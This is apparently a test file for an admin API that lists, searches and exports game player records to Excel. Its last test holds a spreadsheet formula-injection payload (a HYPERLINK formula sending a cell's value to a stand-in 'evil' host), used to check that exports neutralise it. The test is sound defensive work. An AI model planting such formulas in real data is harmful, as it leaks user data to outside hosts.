import { MESSAGES } from '@portal/contract';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../../test/app';
import { createAdmin, createPlayer } from '../../../test/fixtures';
import { auditLog, userGames, userProfiles } from '../../db/schema/index';

let t: TestApp;
let auth: { authorization: string };
const START = new Date('2025-03-01T10:00:00Z');
const DAY = 86_400_000;

beforeAll(async () => {
  t = await buildTestApp({ now: START });
  // 25 Caliber players on 25 consecutive days, every fifth from Japan; 4 Yggdra-only players.
  for (let i = 0; i < 25; i++) {
    t.clock.set(new Date(START.getTime() + i * DAY));
    const { user } = await createPlayer(t.app.ctx, {
      name: i === 7 ? 'Zephyr Quinn' : `Caliber Player ${i}`,
      phoneNumber: `0917555${String(i).padStart(4, '0')}`,
      games: i % 2 === 0 ? ['caliber', 'yggdra'] : ['caliber'],
      country: i % 5 === 0 ? 'Japan' : 'Philippines',
      birthdate: '2000-06-15',
    });
    if (i === 3) await t.app.ctx.db.update(userGames).set({ level: 42 }).where(eq(userGames.userId, user.id));
    if (i === 4)
      await t.app.ctx.db
        .update(userProfiles)
        .set({ gender: 'non-binary' })
        .where(eq(userProfiles.userId, user.id));
  }
  for (let i = 0; i < 4; i++) {
    t.clock.set(new Date(START.getTime() + (30 + i) * DAY));
    await createPlayer(t.app.ctx, { name: `Yggdra Only ${i}`, games: ['yggdra'] });
  }
  t.clock.set(new Date('2025-06-01T00:00:00Z'));
  auth = (await createAdmin(t.app.ctx)).auth;
});
afterAll(() => t.close());

const get = (url: string, headers = auth) => t.app.inject({ url, headers });

describe('GET /api/users/paginate/{game}', () => {
  it('answers the spec paginated shape with rows shaped as admin list users, newest first', async () => {
    const res = await get('/api/users/paginate/caliber');
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({
      current_page: 1,
      last_page: 3,
      per_page: 10,
      total: 25,
      prev_page_url: null,
    });
    expect(body.data).toHaveLength(10);
    expect(body.data[0].name).toBe('Caliber Player 24');
    const row = body.data[0];
    expect(Object.keys(row).sort()).toEqual(
      [
        'account_status',
        'addresses',
        'created_at',
        'email',
        'games',
        'id',
        'name',
        'phone_number',
        'profile',
        'referral_code',
        'registered_at',
      ].sort(),
    );
    expect(row.games[0]).toMatchObject({ name: 'caliber', caliber: { level: 0, session_start: null } });
    expect(row.games.map((g: { name: string }) => g.name)).toEqual(['caliber', 'yggdra']);
    expect(row.addresses).toEqual([{ country: 'Philippines' }]);
    expect(row.profile).toEqual({ gender: 'female', birthdate: '2000-06-15' });
  });

  it('pages with next_page_url and prev_page_url, keeping filters and never repeating a row', async () => {
    const seen = new Set<string>();
    let url: string | null = '/api/users/paginate/caliber?per_page=10&search=caliber';
    const pages: { current_page: number; data: { id: string }[]; prev_page_url: string | null }[] = [];
    while (url) {
      const body: {
        current_page: number;
        data: { id: string }[];
        prev_page_url: string | null;
        next_page_url: string | null;
      } = (await get(url)).json();
      pages.push(body);
      for (const r of body.data) {
        expect(seen.has(r.id)).toBe(false);
        seen.add(r.id);
      }
      expect(body.next_page_url === null || body.next_page_url.includes('search=caliber')).toBe(true);
      url = body.next_page_url;
    }
    expect(pages.map((p) => p.current_page)).toEqual([1, 2, 3]);
    expect(seen.size).toBe(25);
    // Previous from page 3 gives exactly page 2.
    const back = (await get(pages[2]!.prev_page_url!)).json();
    expect(back.current_page).toBe(2);
    expect(back.data.map((r: { id: string }) => r.id)).toEqual(pages[1]!.data.map((r) => r.id));
    // A bare page number works too (offset).
    const direct = (await get('/api/users/paginate/caliber?page=3')).json();
    expect(direct.data.map((r: { id: string }) => r.id)).toEqual(pages[2]!.data.map((r) => r.id));
    // Past the last page: no rows, and no Next.
    const beyond = (await get('/api/users/paginate/caliber?page=40')).json();
    expect(beyond).toMatchObject({ data: [], next_page_url: null, current_page: 40 });
  });

  it('searches every row on the server, case-insensitively, over name, email, phone, country, gender, birthdate and game', async () => {
    const byName = (await get('/api/users/paginate/caliber?search=zEpHyR')).json();
    expect(byName.data.map((r: { name: string }) => r.name)).toEqual(['Zephyr Quinn']);
    expect((await get('/api/users/paginate/caliber?search=japan')).json().total).toBe(5);
    expect((await get('/api/users/paginate/caliber?search=75550003')).json().total).toBe(1);
    expect((await get('/api/users/paginate/caliber?search=NON-BINARY')).json().total).toBe(1);
    expect((await get('/api/users/paginate/caliber?search=2000-06-15')).json().total).toBe(25);
    expect((await get('/api/users/paginate/caliber?search=yggdra')).json().total).toBe(13);
    expect((await get('/api/users/paginate/caliber?search=%25')).json().total).toBe(0);
    const email = byName.data[0].email as string;
    expect(
      (await get(`/api/users/paginate/caliber?search=${encodeURIComponent(email.toUpperCase())}`)).json()
        .total,
    ).toBe(1);
  });

  it('filters by registration date range, both ends inclusive', async () => {
    const body = (await get('/api/users/paginate/caliber?fromDate=2025-03-02&toDate=2025-03-04')).json();
    expect(body.total).toBe(3);
    expect(body.data.map((r: { name: string }) => r.name)).toEqual([
      'Caliber Player 3',
      'Caliber Player 2',
      'Caliber Player 1',
    ]);
    expect(body.data[0].games[0].caliber.level).toBe(42);
  });

  it('lists Yggdra players only in the Yggdra table', async () => {
    const body = (await get('/api/users/paginate/yggdra?per_page=50')).json();
    expect(body.total).toBe(17);
    expect(body.data[0].name).toBe('Yggdra Only 3');
    expect(body.data[0].games[0]).toMatchObject({ name: 'yggdra', caliber: null });
  });

  it.each([
    ['per_page=7', 'per_page'],
    ['per_page=abc', 'per_page'],
    ['fromDate=2025-03-01', 'toDate'],
    ['toDate=2025-03-01', 'fromDate'],
    ['fromDate=2025-02-30&toDate=2025-03-01', 'fromDate'],
    ['fromDate=2025-03-05&toDate=2025-03-01', 'toDate'],
    ['page=0', 'page'],
  ])('answers 422 for %s', async (query, field) => {
    const res = await get(`/api/users/paginate/caliber?${query}`);
    expect(res.statusCode).toBe(422);
    expect(res.json().errors[field]).toBeDefined();
  });

  it('answers 400 for a page link that does not decode', async () => {
    const res = await get('/api/users/paginate/caliber?after=bm9wZQ');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({ message: 'This page link is no longer valid.', code: 'BAD_REQUEST' });
  });

  it('says which dates are missing with the spec message', async () => {
    const res = await get('/api/users/paginate/caliber?fromDate=2025-03-01');
    expect(res.json().message).toBe(MESSAGES.bothDates);
  });

  it('answers 422 for a game that does not exist', async () => {
    const res = await get('/api/users/paginate/minecraft');
    expect(res.statusCode).toBe(422);
    expect(res.json().errors.game).toEqual(['The table must be caliber, yggdra or talesrunner.']);
    expect((await get('/api/users/paginate/minecraft/export')).statusCode).toBe(422);
  });
});

describe('the Tales Runner users table (All Users)', () => {
  const runners: string[] = [];
  beforeAll(async () => {
    // Three Tales Runner players, one of them in Yggdra too; registered after everyone above.
    for (let i = 0; i < 3; i++) {
      t.clock.set(new Date(Date.UTC(2025, 4, 10 + i, 8)));
      const { user } = await createPlayer(t.app.ctx, {
        name: i === 1 ? 'Rhea Runner' : `Runner ${i}`,
        games: i === 2 ? ['talesrunner', 'yggdra'] : ['talesrunner'],
        country: i === 0 ? 'Japan' : 'Philippines',
      });
      runners.push(user.id);
    }
    t.clock.set(new Date('2025-06-01T00:00:00Z'));
  });

  it('lists Tales Runner players only, newest first, shaped as the other tables', async () => {
    const res = await get('/api/users/paginate/talesrunner');
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({ total: 3, current_page: 1, last_page: 1, next_page_url: null });
    expect(body.data.map((r: { id: string }) => r.id)).toEqual([...runners].reverse());
    expect(body.data[0].games.map((g: { name: string }) => g.name)).toEqual(['talesrunner', 'yggdra']);
    expect(body.data[0].games[0]).toMatchObject({ name: 'talesrunner', caliber: null });
    expect(body.data[0].registered_at).toBe('2025-05-12T08:00:00.000Z');
    // Not in the Caliber table; the one also in Yggdra is in the Yggdra table too.
    const caliber = (await get('/api/users/paginate/caliber?search=runner')).json();
    expect(caliber.total).toBe(0);
    expect((await get('/api/users/paginate/yggdra?search=runner')).json().total).toBe(1);
  });

  it('finds a Tales Runner player by name, email, country, or registration dates', async () => {
    const byName = (await get('/api/users/paginate/talesrunner?search=RHEA')).json();
    expect(byName.data.map((r: { id: string }) => r.id)).toEqual([runners[1]]);
    const email = byName.data[0].email as string;
    expect(
      (await get(`/api/users/paginate/talesrunner?search=${encodeURIComponent(email)}`)).json().total,
    ).toBe(1);
    expect((await get('/api/users/paginate/talesrunner?search=japan')).json().total).toBe(1);
    const range = (await get('/api/users/paginate/talesrunner?fromDate=2025-05-11&toDate=2025-05-12')).json();
    expect(range.data.map((r: { id: string }) => r.id)).toEqual([runners[2], runners[1]]);
  });

  it('exports every Tales Runner player as TalesRunner_Users.xlsx, filtered as Filtered_Users.xlsx', async () => {
    const res = await get('/api/users/paginate/talesrunner/export');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="TalesRunner_Users.xlsx"');
    const { sheet, rows } = await openXlsx(res.rawPayload);
    expect(sheet.name).toBe('Tales Runner Users');
    expect(rows).toHaveLength(1 + 3);
    expect(rows[0]).toHaveLength(10);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['Runner 2', 'Rhea Runner', 'Runner 0']);

    const link = await t.app.inject({
      method: 'POST',
      url: '/api/users/paginate/talesrunner/export/link',
      headers: auth,
      payload: { search: 'rhea' },
    });
    expect(link.statusCode).toBe(200);
    const filtered = await t.app.inject({ url: link.json().url });
    expect(filtered.headers['content-disposition']).toBe('attachment; filename="Filtered_Users.xlsx"');
    expect((await openXlsx(filtered.rawPayload)).rows.map((r) => r[0])).toEqual(['Name', 'Rhea Runner']);
  });

  it.each([
    ['per_page=7', 'per_page'],
    ['fromDate=2025-05-10', 'toDate'],
    ['fromDate=2025-05-12&toDate=2025-05-10', 'toDate'],
    ['page=0', 'page'],
  ])('answers 422 for %s', async (query, field) => {
    const res = await get(`/api/users/paginate/talesrunner?${query}`);
    expect(res.statusCode).toBe(422);
    expect(res.json().errors[field]).toBeDefined();
    expect((await get(`/api/users/paginate/talesrunner/export?${query}`)).statusCode).toBe(422);
  });

  it('is open to every staff role that reads players; its export only to a role with players.export', async () => {
    expect((await t.app.inject({ url: '/api/users/paginate/talesrunner' })).statusCode).toBe(401);
    const player = await createPlayer(t.app.ctx, { games: ['talesrunner'] });
    expect((await get('/api/users/paginate/talesrunner', player.auth)).statusCode).toBe(403);
    for (const role of ['support', 'finance', 'analyst'] as const) {
      const staff = (await createAdmin(t.app.ctx, { role })).auth;
      const list = await get('/api/users/paginate/talesrunner', staff);
      expect(list.statusCode, role).toBe(200);
      expect(list.json().total).toBe(4);
      expect((await get('/api/users/paginate/talesrunner/export', staff)).statusCode, role).toBe(403);
      const link = await t.app.inject({
        method: 'POST',
        url: '/api/users/paginate/talesrunner/export/link',
        headers: staff,
        payload: {},
      });
      expect(link.statusCode, role).toBe(403);
    }
    const owner = (await createAdmin(t.app.ctx, { role: 'owner' })).auth;
    expect((await get('/api/users/paginate/talesrunner/export', owner)).statusCode).toBe(200);
  });
});

async function openXlsx(payload: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const rows: unknown[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return { sheet, rows };
}

describe('GET /api/users/paginate/{game}/export', () => {
  it('streams every row (not just a page) as Caliber_Users.xlsx and audits it', async () => {
    const res = await get('/api/users/paginate/caliber/export');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="Caliber_Users.xlsx"');
    const { sheet, rows } = await openXlsx(res.rawPayload);
    expect(sheet.name).toBe('Caliber Users');
    expect(rows[0]).toEqual([
      'Name',
      'Email',
      'Phone Number',
      'Referral Code',
      'Game',
      'Country',
      'Gender',
      'Birthdate',
      'Age',
      'Registered At',
      'Level',
      'Last Login',
    ]);
    expect(rows).toHaveLength(26);
    const zephyr = rows.find((r) => r[0] === 'Zephyr Quinn')!;
    expect(zephyr[4]).toBe('caliber');
    expect(zephyr[7]).toBe('6/15/2000');
    expect(zephyr[8]).toBe(24);
    expect(zephyr[9]).toBe('3/8/2025');
    expect(zephyr[10]).toBe('lvl 0');
    const audits = await t.app.ctx.db.select().from(auditLog).where(eq(auditLog.action, 'users.export'));
    expect(audits.length).toBeGreaterThan(0);
  });

  it('names a filtered export Filtered_Users.xlsx and holds only matching rows', async () => {
    const res = await get('/api/users/paginate/yggdra/export?search=japan');
    expect(res.headers['content-disposition']).toBe('attachment; filename="Filtered_Users.xlsx"');
    const { rows } = await openXlsx(res.rawPayload);
    expect(rows).toHaveLength(1 + 3);
    expect(rows[0]).toHaveLength(10);
  });

  it('streams the same file through a signed link (no bearer token) as with the token', async () => {
    const link = await t.app.inject({
      method: 'POST',
      url: '/api/users/paginate/yggdra/export/link',
      headers: auth,
      payload: { search: ' japan ' },
    });
    expect(link.json().url).toMatch(/^\/api\/users\/paginate\/yggdra\/export\?search=japan&signature=/);
    const res = await t.app.inject({ url: link.json().url });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="Filtered_Users.xlsx"');
    const { rows } = await openXlsx(res.rawPayload);
    expect(rows).toHaveLength(1 + 3);
    const withToken = await openXlsx(
      (await get('/api/users/paginate/yggdra/export?search=japan')).rawPayload,
    );
    expect(rows).toEqual(withToken.rows);
  });

  it('answers 422 for bad filters before streaming anything', async () => {
    expect((await get('/api/users/paginate/caliber/export?fromDate=2025-01-01')).statusCode).toBe(422);
  });

  it('exports player text that starts like a formula with a quote prefix (no formula injection)', async () => {
    const formula = '=HYPERLINK("http://evil/?"&A2,"x")';
    const { user } = await createPlayer(t.app.ctx, {
      name: formula,
      phoneNumber: '+639175550101',
      games: ['yggdra'],
    });
    const { rows } = await openXlsx((await get('/api/users/paginate/yggdra/export')).rawPayload);
    const row = rows.find((r) => r[1] === user.email)!;
    expect(row[0]).toBe(`'${formula}`);
    expect(row[2]).toBe("'+639175550101");
  });
});
